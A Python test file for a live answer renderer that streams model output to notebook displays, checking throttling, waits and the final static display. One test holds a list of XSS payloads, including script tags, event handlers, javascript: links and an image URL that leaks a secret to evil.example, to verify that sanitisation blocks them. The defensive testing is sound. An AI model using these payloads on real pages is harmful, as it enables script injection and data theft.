"""The answer where the widget can't run: safe, throttled, and one static display at the end."""

from __future__ import annotations

import re
import threading
from collections.abc import Mapping

import pytest

from neosantara_magic.events import Event, RoundCompleted, RoundStarted, TextDelta, ToolStarted, Waiting
from neosantara_magic.messages import assistant_message
from neosantara_magic.render import updating
from neosantara_magic.render.blocks import LiveAnswer
from neosantara_magic.render.document import Document
from neosantara_magic.render.forms import Look
from neosantara_magic.render.html import sanitise
from neosantara_magic.render.markdown import engine
from neosantara_magic.render.static import bundle
from neosantara_magic.render.updating import UpdatingRenderer
from render.answers import WEATHER, FakeClock, FakeOutlet, one_round, play, streamed, with_tools


class Screen:
    """An updating renderer on fakes."""

    def __init__(self, **look: object) -> None:
        self.first, self.second, self.clock = FakeOutlet(), FakeOutlet(), FakeClock()
        self.document = Document()
        self.renderer = UpdatingRenderer(
            self.first,
            self.second,
            clock=self.clock,
            **look,  # type: ignore[arg-type]
        )

    def feed(self, *events: Event) -> None:
        for event in events:
            self.document.fold(event)
            self.renderer.show(self.document, event)

    def end(self, outcome: str = "completed") -> None:
        self.document.finish(outcome)  # type: ignore[arg-type]
        self.renderer.close(self.document)

    @property
    def html(self) -> str:
        return str((self.first.now or {}).get("text/html", "")) + str((self.second.now or {}).get("text/html", ""))


START = RoundStarted("nusantara-base", "responses")


def test_nothing_is_opened_before_something_is_to_be_seen() -> None:
    """A round that starts and fails leaves no output above the error."""
    screen = Screen()
    screen.feed(START)
    screen.clock.pass_(5)
    screen.end("failed")
    assert (screen.first.painted, screen.second.painted) == ([], [])


def test_first_token_is_painted_at_once() -> None:
    """The first word does not wait for a frame, also after reasoning was painted."""
    screen = Screen()
    screen.feed(START, TextDelta("Hello"))
    assert "Hello" in screen.html


def test_words_are_not_held_back_while_the_model_pauses() -> None:
    """What came too early for a frame is painted by the alarm, without a further event."""
    screen = Screen()
    screen.feed(START, TextDelta("Hello"), TextDelta(" world"))
    assert "world" not in screen.html
    screen.clock.pass_(0.1)
    assert "Hello world" in screen.html


def test_a_burst_is_a_few_frames() -> None:
    """A thousand tokens in a second are some fifteen frames, not a thousand."""
    screen = Screen()
    screen.feed(START)
    for _ in range(1000):
        screen.feed(TextDelta("word "))
        screen.clock.pass_(0.001)
    assert 8 <= len(screen.first.painted) <= 17


def test_seconds_go_on_while_nothing_arrives() -> None:
    """The live line counts although the model is silent; the stored one has no seconds."""
    screen = Screen()
    screen.feed(START, TextDelta("Hello"))
    screen.clock.pass_(3.05)
    assert "3.0 s" in screen.html
    screen.end()
    assert not re.search(r"\d s\b", str(screen.first.now))


def test_a_wait_counts_down() -> None:
    """A wait is shown at once, counts down, and is gone when the answer comes."""
    screen = Screen()
    screen.feed(Waiting(20, 1, 429))
    assert "20 s" in screen.html
    screen.clock.pass_(5.01)
    assert "15 s" in screen.html
    screen.feed(START, TextDelta("Now"))
    screen.clock.pass_(1)
    assert "429" not in screen.html


def test_a_wait_that_ends_in_an_error_is_named() -> None:
    """After a wait in vain the output says what was waited."""
    screen = Screen()
    screen.feed(Waiting(20, 1, 429), Waiting(40, 2, 429))
    screen.end("failed")
    assert screen.first.now is not None
    assert "waited 20 s" in screen.first.now["text/plain"]
    assert "waited 40 s" in screen.first.now["text/plain"]


def test_close_leaves_the_static_twin_and_no_alarm() -> None:
    """The end is one display with the static twin; nothing is painted afterwards."""
    screen = Screen()
    screen.feed(*one_round("Hello **you**"))
    screen.end()
    painted = len(screen.first.painted)
    screen.clock.pass_(100)
    assert screen.first.now == bundle(screen.document)
    assert len(screen.first.painted) == painted
    assert screen.clock.waiting == 0
    assert screen.second.painted == []


@pytest.mark.parametrize("outcome", ["stopped", "failed"])
def test_the_half_stays(outcome: str) -> None:
    """Stopped or failed half-way, the text so far stays as the static twin."""
    screen = Screen()
    screen.feed(START, TextDelta("Half an"), TextDelta(" answer"))
    screen.end(outcome)
    assert screen.first.now is not None
    assert screen.first.now["text/markdown"].startswith("Half an answer\n")


LONG = "\n\n".join(f"Paragraph {n}: " + "it goes on and on, " * 20 for n in range(150))


def test_a_long_answer_is_split_and_merged() -> None:
    """Finished blocks move into the first display, the end grows in the second, and both end as one."""
    screen = Screen()
    screen.feed(START)
    for event in streamed(LONG, 40):
        screen.feed(event)
        screen.clock.pass_(0.02)
    screen.clock.pass_(1)
    assert screen.second.painted
    want = sanitise(engine("commonmark").render(LONG))
    assert _words(screen.html).startswith(_words(want))
    screen.end()
    assert screen.first.now == bundle(screen.document)
    assert (screen.second.now, screen.second.clears) == ({}, 1)


def test_a_long_answer_costs_far_less_than_sending_it_whole() -> None:
    """The second display is worth its place: less than half of what one display sends, and less than quadratic."""
    sent: dict[bool, int] = {}
    for split in (True, False):
        screen = Screen()
        if not split:
            screen.renderer = UpdatingRenderer(screen.first, None, clock=screen.clock)
        screen.feed(START)
        for event in streamed(LONG, 40):
            screen.feed(event)
            screen.clock.pass_(0.05)
        sent[split] = sum(len(p.get("text/html", "")) for o in (screen.first, screen.second) for p in o.painted)
    assert sent[True] < sent[False] / 2


def test_one_display_keeps_within_its_bytes() -> None:
    """Without a second display frames become rarer, so that the front end can follow."""
    screen = Screen()
    screen.renderer = UpdatingRenderer(screen.first, None, clock=screen.clock)
    screen.feed(START)
    began = screen.clock.now
    for event in streamed(LONG, 40):
        screen.feed(event)
        screen.clock.pass_(0.02)
    sent = sum(len(painted["text/html"]) for painted in screen.first.painted)
    assert sent <= 1.1 * 250_000 * (screen.clock.now - began) + len(LONG) * 2


def test_late_references_reach_the_settled_part(monkeypatch: pytest.MonkeyPatch) -> None:
    """A link whose address comes last is repaired in the first display too."""
    monkeypatch.setattr(updating, "SPLIT_AFTER", 10)
    screen = Screen()
    text = "See [the page][x].\n\n" + "More.\n\n" * 20
    screen.feed(START)
    for event in streamed(text, 10):
        screen.feed(event)
        screen.clock.pass_(0.2)
    assert screen.second.painted
    assert "href" not in screen.html
    for event in streamed("[x]: https://example.org/\n\nEnd.\n\nReally.", 10):
        screen.feed(event)
        screen.clock.pass_(0.2)
    assert 'href="https://example.org/"' in str(screen.first.now)


def test_replaced_text_replaces_what_is_shown() -> None:
    """When the complete message differs from its deltas, the display follows the message."""
    screen = Screen()
    screen.feed(START, TextDelta("One.\n\nTwo.\n\nThree"))
    screen.clock.pass_(1)
    screen.feed(RoundCompleted(assistant_message("Uno.")))
    screen.clock.pass_(1)
    assert "Uno." in screen.html
    assert "Two." not in screen.html


def test_tools_are_seen_running() -> None:
    """A card says that its function runs before that function blocks everything."""
    screen = Screen()
    screen.feed(*with_tools()[:7], ToolStarted(WEATHER))
    assert "get_weather" in screen.html
    assert "running" in screen.html


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "<style>*{display:none}</style>",
    "![](https://evil.example/?d=secret)",
    '<a href="https://x" onclick="alert(1)">x</a>',
    "<details><summary>x</summary><iframe src='https://evil.example'></iframe></details>",
]
_LIVE = re.compile(
    r"<script|<style|<iframe|<img[^>]*src=[\"']?(?!data:image/)|<[^>]*\son\w+=|href=[\"']?javascript", re.IGNORECASE
)


@pytest.mark.parametrize("name", ["commonmark", "python-markdown"])
@pytest.mark.parametrize("payload", HOSTILE)
def test_no_frame_ever_holds_live_markup(name: str, payload: str) -> None:
    """Cut anywhere, in text, tools and reasoning, hostile answers never reach a display as markup."""
    for size in (1, 3, 1000):
        screen = Screen(look=Look(name))
        screen.feed(START)
        for event in streamed(f"A\n\n{payload}\n\nB {payload}", size):
            screen.feed(event)
            screen.clock.pass_(0.2)
        screen.end()
        for painted in screen.first.painted + screen.second.painted:
            assert not _LIVE.search(painted.get("text/html", "")), painted


def test_painting_from_the_alarm_fails_loudly() -> None:
    """What breaks in the alarm's thread is raised in the thread of the ask."""

    class Broken(FakeOutlet):
        def show(self, bundle: Mapping[str, object]) -> None:
            if self.painted:
                raise OSError("gone")
            super().show(bundle)

    screen = Screen()
    screen.renderer = UpdatingRenderer(Broken(), clock=screen.clock)
    screen.feed(START, TextDelta("a"), TextDelta("b"))
    screen.clock.pass_(1)
    with pytest.raises(OSError, match="gone"):
        screen.feed(TextDelta("c"))


def test_real_timers_never_paint_after_close() -> None:
    """With the real alarm: when close returns, the static twin is the last thing painted."""
    first = FakeOutlet()
    document = play(UpdatingRenderer(first), one_round(LONG[:4000]))
    painted = len(first.painted)
    for thread in threading.enumerate():
        if isinstance(thread, threading.Timer):
            thread.join(5)
    assert first.now == bundle(document)
    assert len(first.painted) == painted


def test_live_answer_equals_the_whole() -> None:
    """Blocks and tail together are what rendering the whole text gives."""
    live = LiveAnswer(Look())
    document = Document()
    for event in streamed(LONG[:3000], 7):
        document.fold(event)
        live.take(document)
    assert _words("".join([*live.blocks, live.tail])) == _words(sanitise(engine("commonmark").render(document.text)))


def _words(html: str) -> str:
    return " ".join(re.sub(r"<[^>]*>", " ", html).split())
